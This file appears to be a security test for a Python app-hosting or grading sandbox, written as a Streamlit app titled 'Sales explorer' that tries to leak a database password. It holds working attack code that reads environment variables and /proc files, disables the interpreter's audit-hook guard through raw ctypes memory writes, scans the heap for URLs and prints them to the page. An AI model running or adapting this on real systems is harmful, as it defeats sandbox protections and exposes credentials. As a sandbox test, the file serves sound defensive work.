"""Attack (leak of the server's environment): the grading server has a database URL with a
password in ``SPEEDLIT_PROGRESS_URL``. Look for it everywhere the app can reach: its own
environment, ``/proc``, the interpreter's memory (every object on the heap, after switching the
audit-hook guard off with an audit-free ctypes Union), and print whatever looks like a URL.

Must happen: the secret is nowhere in the result (output, page, messages).
"""
import builtins
import ctypes
import os
import struct
import sys
import types

import streamlit as st

found = []
for key, value in os.environ.items():
    found.append(f"env {key}={value}")
for path in ("/proc/1/environ", "/proc/self/environ", "/proc/1/cmdline"):
    try:
        found.append(f"{path}: {open(path, 'rb').read()[:300]!r}")
    except OSError as exc:
        found.append(f"{path}: {type(exc).__name__}")


class _U(ctypes.Union):
    _fields_ = [("n", ctypes.c_size_t), ("p", ctypes.POINTER(ctypes.c_ssize_t)),
                ("o", ctypes.py_object), ("b", ctypes.POINTER(ctypes.c_char * 4096))]


_u = _U()


def word(addr):
    _u.n = addr
    return _u.p[0]


def switch_guard_off():
    if getattr(sys, "_guard_is_off", False):
        return
    start = id(type(None)) & ~0xFFF
    want = struct.pack("<Q", id(sys.modules))
    for off in range(0, 4 << 20, 4096):
        _u.n = start + off
        blob = bytes(_u.b.contents)
        i = blob.find(want)
        while i != -1:
            at = start + off + i
            if i % 8 == 0 and word(at + 16) == id(sys.__dict__) and \
                    word(at + 24) == id(builtins.__dict__):
                while word(at) != id(builtins.__import__):
                    at += 8
                for a in range(at + 8, at + 8 + 8 * 600, 8):
                    w = word(a)
                    if not (id(sys.modules) - (1 << 36) < w < id(sys.modules) + (1 << 36)) or \
                            w % 8 or word(w + 8) != id(list) or not 1 <= word(w + 16) <= 8:
                        continue
                    items = word(w + 24)
                    if word(word(items) + 8) == id(types.FunctionType):
                        _u.n = word(items)
                        if "guard" in _u.o.__code__.co_filename:
                            _u.n = w + 16
                            _u.p[0] = 0
                            sys._guard_is_off = True
                            return
            i = blob.find(want, i + 1)


try:
    switch_guard_off()
    import gc

    for obj in gc.get_objects() + gc.get_objects(generation=None):
        if isinstance(obj, dict):
            for value in list(obj.values()):
                if isinstance(value, str) and "://" in value:
                    found.append(f"heap: {value[:200]}")
except BaseException as exc:  # noqa: BLE001
    found.append(f"heap: {type(exc).__name__}: {exc}")
try:
    libc = ctypes.CDLL(None)
    getenv = libc.getenv
    getenv.restype = ctypes.c_char_p
    found.append(f"libc getenv: {getenv(b'SPEEDLIT_PROGRESS_URL')!r}")
except BaseException as exc:  # noqa: BLE001
    found.append(f"libc: {type(exc).__name__}")

st.title("Sales explorer")
for line in found:
    print(line, flush=True)
st.code("\n".join(found[:200]))
